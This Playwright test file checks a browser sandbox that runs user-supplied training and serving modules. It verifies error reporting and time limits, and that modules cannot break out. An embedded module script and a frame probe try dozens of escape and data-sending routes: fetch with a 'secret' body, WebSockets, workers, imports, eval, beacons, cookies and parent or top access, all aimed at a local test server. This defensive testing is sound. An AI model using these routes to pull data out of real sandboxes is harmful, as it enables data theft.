// Modules of the user's own, in a real browser: they train and serve; they fail in words; and whatever they try, they reach
// nothing and cannot keep the page from working. With the app's headers and on a host that sends none.

import { mkdtemp, rm } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { expect, type Frame, type Page, test } from '@playwright/test';
import { build, type PreviewServer, preview } from 'vite';
import { SECURITY_HEADERS } from '../src/wire/csp';
import type {
  ModuleQuestion,
  Sandboxes,
  ServingOutcome,
  ServingQuestion,
  TrainingOutcome,
} from './harness/sandbox/protocol';
import { TEMPLATE_FILES } from './support/module-template';

declare global {
  interface Window {
    sandboxes: Sandboxes;
  }
}

const configFile = resolve(import.meta.dirname, 'harness/sandbox/vite.config.ts');
const servers: PreviewServer[] = [];
let outDir = '';
let withHeaders = '';
let bare = '';

async function serve(headers: Readonly<Record<string, string>>): Promise<string> {
  const server = await preview({ configFile, build: { outDir }, preview: { port: 0, host: '127.0.0.1', headers } });
  servers.push(server);
  return server.resolvedUrls!.local[0]!;
}

test.beforeAll(async () => {
  outDir = await mkdtemp(join(tmpdir(), 'millrace-sandbox-'));
  await build({ configFile, build: { outDir } });
  withHeaders = await serve(SECURITY_HEADERS);
  bare = await serve({});
});

test.afterAll(async () => {
  await Promise.all(servers.map((server) => server.close()));
  await rm(outDir, { recursive: true, force: true });
});

const train = (page: Page, question: ModuleQuestion): Promise<TrainingOutcome> =>
  page.evaluate((asked) => window.sandboxes.train(asked), question);
const serveModule = (page: Page, question: ServingQuestion): Promise<ServingOutcome> =>
  page.evaluate((asked) => window.sandboxes.serve(asked), question);

/** A site elsewhere that would answer anybody, with what it was asked for. */
async function openElsewhere(): Promise<{ url: string; asked: string[]; server: Server }> {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript' }).end('');
  });
  server.on('upgrade', (request, socket) => {
    asked.push(request.url ?? '');
    socket.destroy();
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked, server };
}

test('the template trains, draws and serves', async ({ page }) => {
  await page.goto(withHeaders);
  const trained = await train(page, { files: TEMPLATE_FILES, script: 'train.js', args: ['--epochs', '60'] });
  expect(trained.message).toBe('');
  expect(trained.log).toEqual(
    expect.arrayContaining(['60 rows, 2 columns', expect.stringMatching(/^epoch 60: loss /)]),
  );
  expect(Object.keys(trained.written!).sort()).toEqual([
    expect.stringMatching(/^logs\/events\.out\.tfevents\./),
    'model.json',
  ]);
  expect(trained.events).toBeGreaterThan(0);
  expect(trained.frames).toBe(0);

  const served = await serveModule(page, {
    files: { ...TEMPLATE_FILES, 'model.json': trained.written!['model.json']! },
    script: 'serve.js',
    inputs: [
      { text: '2,1', type: 'text/csv', accepted: 'text/csv' },
      { text: '[[2, 1], [3, 1]]', type: 'application/json' },
      { text: 'GIF89a', type: 'image/gif' },
      { text: '[2, 1]', type: 'application/json', accepted: 'image/png' },
      { text: '[2]', type: 'application/json' },
    ],
  });
  const [csv, json, unread, unwritten, short] = served.answers;
  expect(csv).toMatchObject({ type: 'text/csv', text: expect.stringMatching(/^[78]\.\d+\n$/) });
  expect(json).toMatchObject({ type: 'application/json' });
  expect(unread).toMatchObject({ failure: { kind: 'unsupported type' } });
  expect(unwritten).toMatchObject({ failure: { kind: 'not acceptable' } });
  expect(short).toMatchObject({
    message: 'Error: A row has 2 numbers, not 1.',
    failure: { kind: 'threw', step: 'predict' },
  });
  // A prediction that fails ends nothing.
  expect(served).toMatchObject({ open: true, frames: 0 });
});

test('what a module throws is shown with its files and lines; what it returns wrongly, in words', async ({ page }) => {
  await page.goto(withHeaders);
  const thrown = await train(page, {
    files: {
      'train.ts':
        "import { fit } from './lib/fit.js';\ntype Rows = number[];\nexport async function train(dir: unknown, rows: Rows) {\n  await null;\n  fit(rows);\n}",
      'lib/fit.ts': 'export function fit(rows: unknown) {\n\n  throw new RangeError("no rows in " + rows);\n}',
    },
    script: 'train.ts',
    args: ['a.csv'],
  });
  expect(thrown).toMatchObject({
    written: null,
    message: 'RangeError: no rows in a.csv',
    failure: {
      kind: 'threw',
      step: 'train',
      name: 'RangeError',
      stack: '    at fit (lib/fit.ts:3)\n    at train (train.ts:5)',
    },
  });

  const late = await train(page, {
    files: {
      'train.js':
        "export const train = () => new Promise(() => setTimeout(() => {\n  throw new Error('too late');\n}));",
    },
    script: 'train.js',
  });
  expect(late).toMatchObject({ message: 'Error: too late', failure: { step: 'later', stack: '    at train.js:2' } });

  // Found by the browser alone: two declarations of one name.
  const unread = await train(page, {
    files: { 'train.js': 'let a;\nlet a;\nexport function train() {}' },
    script: 'train.js',
  });
  expect(unread).toMatchObject({ failure: { kind: 'threw', name: 'SyntaxError', stack: '    at train.js' } });

  const outside = await train(page, {
    files: {
      'train.js':
        "export async function train(dir) {\n  console.warn('on the way');\n  await dir.write('a', new Uint8Array(1));\n  await dir.write('../x', new Uint8Array(1));\n}",
    },
    script: 'train.js',
  });
  expect(outside).toMatchObject({ written: null, failure: { kind: 'threw', name: 'ArchiveError' } });
  expect(outside.message).toContain('“../x” leaves its folder');
  expect(outside.log).toEqual(['WARNING: on the way']);

  const wrong = await serveModule(page, {
    files: {
      'serve.js': 'export const load = () => 1, deserialize = () => 2, predict = () => 3, serialize = () => 4;',
    },
    script: 'serve.js',
    inputs: [{ text: '' }],
  });
  expect(wrong.answers[0]).toMatchObject({
    failure: { kind: 'answer', step: 'serialize' },
    message: '“serialize” must return { bytes, contentType } or null, not a number.',
  });
});

test('one that never ends is ended, and the page works on', async ({ page }) => {
  await page.goto(withHeaders);
  const looping = { 'train.js': 'export function train() { for (;;); }' };
  const timed = await train(page, { files: looping, script: 'train.js', seconds: 2 });
  expect(timed).toMatchObject({ written: null, failure: { kind: 'time', seconds: 2 }, frames: 0 });
  expect(timed.ticks).toBeGreaterThan(10);
  const stopped = await train(page, { files: looping, script: 'train.js', stopAfter: 500 });
  expect(stopped).toMatchObject({ failure: { kind: 'stopped' }, frames: 0 });

  const served = await serveModule(page, {
    files: {
      'serve.js':
        'export const load = () => 1, deserialize = () => 2, serialize = () => null;\nexport function predict() { for (;;); }',
    },
    script: 'serve.js',
    inputs: [{ text: '' }, { text: '' }],
    seconds: 1,
  });
  expect(served.answers).toMatchObject([{ failure: { kind: 'time' } }, { failure: { kind: 'time' } }]);
  expect(served).toMatchObject({ open: false, frames: 0 });
  await expect.poll(() => page.workers().length).toBe(0);
});

test('one that floods the page with messages, or forges them, is ended', async ({ page }) => {
  await page.goto(withHeaders);
  const of = (body: string) => ({
    files: { 'train.js': `export function train(dir, args, { logger }) { ${body} }` },
    script: 'train.js',
  });
  const post = (text: string, blobs: string) => `postMessage({ text: ${text}, blobs: ${blobs} })`;
  const flood = await train(page, of(`for (;;) ${post(`'{"kind":"log","lines":["x"],"left":0}'`, '[]')}`));
  expect(flood).toMatchObject({ failure: { kind: 'size' }, message: expect.stringContaining('messages a second') });
  expect(flood.log.length).toBeLessThan(1000);

  const forged = [
    ['postMessage(1)', 'messages of its own'],
    [post(`'{"kind":"root"}'`, '[]'), 'messages of its own'],
    [post('"x".repeat(1e7)', '[]'), 'messages of its own'],
    [post(`'{"kind":"trained","paths":["a"]}'`, 'new Array(1)'), 'messages of its own'],
    [
      `for (let i = 0; i < 20; i++) ${post(`'{"kind":"log","lines":["' + "x".repeat(1e6) + '"],"left":0}'`, '[]')}`,
      'messages a second',
    ],
    [post(`'{"kind":"trained","paths":["../x"]}'`, '[new Blob()]'), 'leaves its folder'],
    [post(`'{"kind":"trained","paths":["a","a"]}'`, '[new Blob(), new Blob()]'), 'twice'],
  ] as const;
  for (const [body, words] of forged) {
    const outcome = await train(page, of(`${body}; return new Promise(() => {});`));
    expect(outcome, body).toMatchObject({ written: null, message: expect.stringContaining(words) });
  }
  const chatty = await train(page, of('for (let i = 0; i < 1e5; i++) logger.log(i)'));
  expect(chatty).toMatchObject({ written: {}, message: '' });
  expect(chatty.log.at(-1)).toMatch(/lines were left out$/);
});

/** Everything that a worker could leave by; what it writes says for each how it was refused, or that there is none. */
const ESCAPES = `
  const outcome = async (attempt) => {
    const late = new Promise((resolve) => setTimeout(resolve, 4000, 'no answer'));
    try { return 'REACHED ' + await Promise.race([attempt(), late.then((words) => { throw new Error(words); })]); }
    catch (error) { return 'refused: ' + (error?.name ?? error); }
  };
  const event = (target, good) => new Promise((resolve, reject) => {
    target.addEventListener(good, () => resolve(good));
    target.addEventListener('error', () => reject(new Error('error')));
  });
  const blob = (text) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
  export async function train(dir, [url, own]) {
    const attempts = {
      fetch: () => fetch(url + '/fetch'),
      fetchBlind: () => fetch(url + '/blind', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'secret' }),
      fetchOwn: () => fetch(own),
      request: () => { const r = new XMLHttpRequest(); const done = event(r, 'load'); r.open('GET', url + '/xhr'); r.send(); return done; },
      requestAtOnce: () => { const r = new XMLHttpRequest(); r.open('GET', url + '/sync', false); r.send(); return r.status; },
      socket: () => event(new WebSocket(url.replace('http', 'ws') + '/socket'), 'open'),
      socketOwn: () => event(new WebSocket(own.replace('http', 'ws') + 'socket'), 'open'),
      events: () => event(new EventSource(url + '/events'), 'open'),
      transport: () => new WebTransport(url.replace('http', 'https') + '/transport').ready,
      importScripts: () => importScripts(url + '/scripts'),
      import: () => import('https://example.org/module.js'),
      importComputed: () => import(url + '/module'),
      eval: () => (0, eval)('1'),
      function: () => new Function('return 1')(),
      worker: () => event(new Worker(url + '/worker'), 'message'),
      workerOwn: () => event(new Worker(own), 'message'),
      workerData: () => event(new Worker('data:text/javascript,postMessage(1)'), 'message'),
      workerWithin: () => {
        const text = 'fetch(' + JSON.stringify(url + '/within') + ').then(() => postMessage(1), () => setTimeout(() => { throw 1; }))';
        return event(new Worker(blob(text)), 'message');
      },
      font: () => new FontFace('x', 'url(' + url + '/font)').load(),
      beacon: () => navigator.sendBeacon(url + '/beacon'),
      rtc: () => new RTCPeerConnection(),
      indexedDB: () => new Promise((resolve, reject) => { const r = indexedDB.open('millrace'); r.onsuccess = resolve; r.onerror = reject; }),
      caches: () => caches.keys(),
      folder: () => navigator.storage.getDirectory(),
      locks: () => navigator.locks.query(),
      cookies: () => cookieStore.getAll(),
      serviceWorker: () => navigator.serviceWorker.getRegistrations(),
      storage: () => localStorage.length,
      parent: () => parent.document,
      top: () => top.location,
      opener: () => opener.location,
      document: () => document.cookie,
      window: () => window.name,
    };
    const names = Object.keys(attempts);
    // Heard by the page, were it heard.
    try { new BroadcastChannel('millrace').postMessage('from within'); } catch {}
    const outcomes = await Promise.all(names.map((name) => outcome(attempts[name])));
    const told = { origin: self.origin, outcomes: Object.fromEntries(names.map((name, i) => [name, outcomes[i]])) };
    await dir.write('told.json', new TextEncoder().encode(JSON.stringify(told)));
  }`;

/** The same for the frame, in which no module runs: were it taken over, it would reach nothing either. */
function escapeFrame(frame: Frame, url: string): Promise<Record<string, boolean>> {
  return frame.evaluate(async (target) => {
    const refused = async (attempt: () => unknown) => {
      try {
        return !(await attempt());
      } catch {
        return true;
      }
    };
    const loads = (element: HTMLImageElement | HTMLLinkElement | HTMLScriptElement | HTMLIFrameElement) =>
      new Promise((done) => {
        element.onload = () => done(!(element instanceof HTMLIFrameElement));
        element.onerror = () => done(false);
        document.body.append(element);
        setTimeout(done, 1500, false);
      });
    const make = <K extends keyof HTMLElementTagNameMap>(tag: K, given: Partial<HTMLElementTagNameMap[K]>) =>
      Object.assign(document.createElement(tag), given);
    const result = {
      fetch: await refused(() => fetch(`${target}/frame-fetch`)),
      image: await refused(() => loads(make('img', { src: `${target}/frame-image` }))),
      style: await refused(() => loads(make('link', { rel: 'stylesheet', href: `${target}/frame-style` }))),
      script: await refused(() => loads(make('script', { src: `${target}/frame-script` }))),
      frame: await refused(() => loads(make('iframe', { src: `${target}/frame-frame` }))),
      popup: await refused(() => window.open(`${target}/frame-popup`)),
      parent: await refused(() => parent.document),
      storage: await refused(() => localStorage),
      top: await refused(() => {
        top!.location.href = `${target}/frame-top`;
        return true;
      }),
    };
    const form = make('form', { action: `${target}/frame-form`, method: 'post', target: '_self' });
    document.body.append(form);
    // Were it possible, there would be nobody left to answer.
    setTimeout(() => {
      form.submit();
      location.href = `${target}/frame-location`;
    }, 300);
    return result;
  }, url);
}

for (const host of ['with the app’s headers', 'without headers'] as const) {
  test(`one that tries to leave reaches nothing, on a host ${host}`, async ({ page }) => {
    const own = host === 'without headers' ? bare : withHeaders;
    const elsewhere = await openElsewhere();
    const heard: string[] = [];
    page.on('console', (message) => message.text().startsWith('heard ') && heard.push(message.text()));
    try {
      await page.goto(own);
      await page.evaluate(() => {
        new BroadcastChannel('millrace').onmessage = () => console.warn('heard a channel');
        addEventListener('message', () => console.warn('heard a message'));
      });
      const { written, message } = await train(page, {
        files: { 'train.js': ESCAPES },
        script: 'train.js',
        args: [elsewhere.url, own],
      });
      expect(message).toBe('');
      const { origin, outcomes } = JSON.parse(written!['told.json']!) as {
        origin: string;
        outcomes: Record<string, string>;
      };
      expect(origin).toBe('null');
      expect(Object.entries(outcomes).filter(([, words]) => !words.startsWith('refused'))).toEqual([]);
      expect(heard).toEqual([]);

      // That of the first is gone.
      await expect.poll(() => page.frames().length).toBe(1);
      const running = train(page, {
        files: { 'train.js': 'export const train = () => new Promise(() => {});' },
        script: 'train.js',
        stopAfter: 4000,
      });
      const inFrame = () => page.frames().find((frame) => frame.url() === 'about:srcdoc');
      await expect.poll(() => inFrame() !== undefined).toBe(true);
      await expect.poll(() => page.workers().some((worker) => worker.url().startsWith('blob:null'))).toBe(true);
      const escaped = await escapeFrame(inFrame()!, elsewhere.url);
      expect(Object.entries(escaped).filter(([, refused]) => !refused)).toEqual([]);
      await running;
      expect(page.url()).toBe(own);
      expect(elsewhere.asked).toEqual([]);
      // It is there for everybody else.
      await page.request.get(`${elsewhere.url}/asked`);
      expect(elsewhere.asked).toEqual(['/asked']);
    } finally {
      elsewhere.server.close();
    }
  });
}
